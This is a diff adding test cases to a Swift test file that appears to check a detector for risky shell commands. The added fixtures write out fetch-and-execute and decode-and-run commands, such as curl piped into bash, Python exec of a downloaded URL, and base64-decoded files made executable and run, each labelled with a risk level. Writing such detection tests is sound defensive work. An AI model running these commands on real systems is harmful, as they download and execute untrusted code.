@@ -39,6 +39,12 @@ struct CodeCase: Sendable, CustomTestStringConvertible {
         CodeCase("download-to-interpreter", .high, "X=$(curl -s http://203.0.113.9/x)\neval \"$X\""),
         CodeCase("download-to-interpreter", .high, "X=`curl -s http://203.0.113.9/x`; echo \"${X}\" | sh"),
         CodeCase("decoded-code", .high, "X=$(echo aWQK | base64 -d); sh -c \"$X\""),
+        CodeCase("download-to-interpreter", .high, "curl -s http://203.0.113.9/x | tee >(bash) > /opt/x"),
+        CodeCase(
+            "download-to-interpreter", .high, "python3 -c 'import urllib.request as u;exec(u.urlopen(\"x\").read())'"),
+        CodeCase("download-then-run", .high, "curl -s http://203.0.113.9/x | gunzip > /opt/x\nsh /opt/x"),
+        CodeCase("decoded-file-run", .high, "echo aWQK | base64 -d > /opt/x; chmod +x /opt/x; /opt/x"),
+        CodeCase("decoded-file-run", .medium, "echo aWQK | base64 -d > /opt/x; chmod 0755 /opt/x"),
         CodeCase("download-then-run", .high, "wget -O /opt/x http://203.0.113.9/x\nchmod +x /opt/x\n/opt/x &"),
         CodeCase("download-made-executable", .medium, "curl -o /opt/x http://203.0.113.9/x && chmod 755 /opt/x"),
         CodeCase("decoded-code", .high, "echo aWQK | base64 -d | sh"),
